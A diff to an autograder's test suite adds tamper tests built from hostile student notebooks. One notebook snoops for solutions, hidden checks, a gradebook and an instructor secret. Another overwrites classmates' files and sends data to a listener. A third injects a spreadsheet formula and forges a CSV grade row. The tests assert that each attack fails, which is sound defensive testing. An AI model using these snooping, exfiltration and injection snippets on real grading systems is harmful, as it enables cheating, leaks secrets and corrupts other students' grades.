@@ -111,12 +111,101 @@ with open(_checks.__file__, "a") as _file:
 '''
 
 
+# Honest code that first looks for everything it should not see, and prints it (so that it
+# would land in its feedback); then raises with what it found, as a hidden check's failure would.
+SNOOP = '''
+import glob as _glob
+import os as _os
+import pathlib as _pathlib
+
+_found = {{}}
+for _pattern in [{repo!r} + "/solutions/*.py", {repo!r} + "/autograder/checks/*.py", {repo!r} + "/autograder/assignments/*.py",
+                 {submissions!r} + "/*/*.ipynb", {out!r} + "/*", "/tmp/xai-grade-*/worker*/gradebook.db",
+                 "/tmp/xai-grade-*/worker*/source/*/*.ipynb"]:
+    for _path in _glob.glob(_pattern):
+        try:
+            _found[_path] = _pathlib.Path(_path).read_text(errors="replace")[:3000]
+        except OSError as _error:
+            _found[_path] = repr(_error)
+print("FOUND:", sorted(_found), "ENV:", sorted(_os.environ))
+print(_os.environ.get("XAI_TEST_INSTRUCTOR_SECRET", "no instructor secret"))
+for _text in _found.values():
+    print(_text)
+'''
+# Writes wherever it could hurt: the output folder, a classmate's submission and feedback, the
+# kit's checks, HOME; and sends what it has to a listener on the grader's loopback.
+WRITE_AND_SEND = '''
+import pathlib as _pathlib
+import socket as _socket
+
+for _target in [{out!r} + "/grades.csv", {out!r} + "/feedback/honest/01_hooks.html",
+                {submissions!r} + "/honest/01_hooks.ipynb", {repo!r} + "/autograder/checks/a01_hooks.py",
+                {home!r} + "/xai-kit-planted.txt"]:
+    try:
+        _pathlib.Path(_target).write_text("overwritten")
+    except OSError:
+        pass
+try:
+    _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen" * 1000)
+except OSError:
+    pass
+'''
+
+
+# An exception whose name is a spreadsheet formula and whose message forges a CSV row.
+CSV_INJECTION = '''
+_Formula = type('=HYPERLINK("http://example.invalid","8 of 8")', (Exception,), {})
+
+
+def top_channels(model, layer_name, x, k=5):
+    raise _Formula("oops\\nalice,01_hooks,autograded_total,autograded,8,8,graded,")
+'''
+SECRET = "instructor-secret-7f3a"
+
+
 def _cell(notebook, grade_id):
     return next(c for c in notebook.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
 
 
 @pytest.fixture(scope="module")
-def graded(tmp_path_factory, standin_assets_module):
+def listener():
+    """A TCP listener on the grader's loopback; ``received()`` is what reached it."""
+    import socket
+    import threading
+
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(4)
+    server.settimeout(0.5)
+    received, stop = [], threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            with connection:
+                received.append(connection.recv(1 << 20))
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], received
+    stop.set()
+    thread.join()
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory, standin_assets_module, listener):
+    import os
+    from pathlib import Path
+
+    from autograder.source_format import REPO_ROOT
+
+    root = tmp_path_factory.mktemp("tamper")
+    places = {"repo": str(REPO_ROOT), "submissions": str(root / "submissions"), "out": str(root / "out"),
+              "home": str(Path.home()), "port": listener[0]}
     solved, blank = harness.mutated_submission(A), harness.blank_submission(A)
     fake = copy.deepcopy(solved)
     _cell(fake, "record_activations").source = FAKE_RECORD
@@ -144,7 +233,11 @@ def graded(tmp_path_factory, standin_assets_module):
     _cell(displayhook, "record_activations").source = DISPLAYHOOK
     fake_pass_lines = copy.deepcopy(solved)
     _cell(fake_pass_lines, "record_activations").source = FAKE_PASS_LINES
-    students = {"honest": solved, "fake_checks": fake, "patched_reference": patched_reference,
+    snooper = harness.with_code(solved, "record_activations", SNOOP.format(**places))
+    writer = harness.with_code(solved, "record_activations", WRITE_AND_SEND.format(**places))
+    injector = copy.deepcopy(solved)
+    _cell(injector, "top_channels").source = CSV_INJECTION
+    students = {"honest": solved, "snooper": snooper, "writer": writer, "csv_injector": injector, "fake_checks": fake, "patched_reference": patched_reference,
                 "looping": looping, "memory_hog": hog, "changed_points": points, "retyped": retyped,
                 "raises_on_import": raises, "shadowing": blank, "missing": None, "no_op_runner": no_op_runner,
                 "reference": reference, "hidden_tracebacks": hidden_tracebacks, "displayhook": displayhook,
@@ -157,7 +250,11 @@ def graded(tmp_path_factory, standin_assets_module):
     # with torch imported): cells get 30 s, notebooks 120 s. The looping notebook is interrupted
     # at 30 s; its kernel ignores that and is restarted 10 s later.
     limits = Limits(cell_seconds=30, notebook_seconds=120, memory_mb=8192)
-    return harness.grade_cohort(tmp_path_factory.mktemp("tamper"), A, students, limits=limits, extra_files=extra)
+    os.environ["XAI_TEST_INSTRUCTOR_SECRET"] = SECRET
+    try:
+        return harness.grade_cohort(root, A, students, limits=limits, extra_files=extra)
+    finally:
+        del os.environ["XAI_TEST_INSTRUCTOR_SECRET"]
 
 
 def _total(graded, student):
@@ -166,6 +263,51 @@ def _total(graded, student):
 
 def test_honest_submission_full_marks(graded):
     assert _total(graded, "honest").score == 8
+
+
+def _feedback(tmp_path_factory, student) -> str:
+    out = next(tmp_path_factory.getbasetemp().glob("tamper*/out"))
+    return (out / "feedback" / student / f"{A}.html").read_text()
+
+
+def test_a_snooping_notebook_finds_nothing_of_the_grader_and_keeps_its_honest_score(graded, tmp_path_factory):
+    """No reference, hidden check, source notebook, classmate, gradebook, output or instructor
+    variable is visible from the kernel: its feedback shows an empty list, and its score is honest."""
+    import html
+
+    assert _total(graded, "snooper").score == 8
+    text = html.unescape(_feedback(tmp_path_factory, "snooper"))
+    assert "FOUND: [] ENV:" in text and "no instructor secret" in text
+    for secret in (SECRET, "BEGIN SOLUTION", "def check_", "XAI_TEST_INSTRUCTOR_SECRET"):
+        assert secret not in text, secret
+
+
+def test_a_notebook_writes_nothing_outside_its_own_copy_and_sends_nothing(graded, tmp_path_factory, listener):
+    from pathlib import Path
+
+    from autograder.source_format import REPO_ROOT
+
+    root = next(tmp_path_factory.getbasetemp().glob("tamper*"))
+    assert _total(graded, "writer").score == 8 and _total(graded, "honest").score == 8
+    assert "overwritten" not in (root / "out" / "grades.csv").read_text()
+    assert "overwritten" not in _feedback(tmp_path_factory, "honest")
+    assert (root / "submissions" / "honest" / f"{A}.ipynb").read_text().startswith("{")
+    assert "overwritten" not in (REPO_ROOT / "autograder" / "checks" / "a01_hooks.py").read_text()
+    assert not (Path.home() / "xai-kit-planted.txt").exists()
+    assert listener[1] == []
+
+
+def test_a_formula_and_a_forged_row_in_an_error_message_stay_one_escaped_cell(graded, tmp_path_factory):
+    import csv
+
+    out = next(tmp_path_factory.getbasetemp().glob("tamper*/out"))
+    with open(out / "grades.csv", newline="") as file:
+        rows = list(csv.reader(file))
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    assert [row[0] for row in rows].count("alice") == 0
+    injected = [row for row in rows if row[0] == "csv_injector" and row[2] == TOP]
+    assert len(injected) == 1 and injected[0][4] == "0" and injected[0][7].startswith("'=HYPERLINK")
+    assert _total(graded, "csv_injector").score == 6
 
 
 def test_monkeypatched_comparisons_do_not_fool_the_hidden_checks(graded):
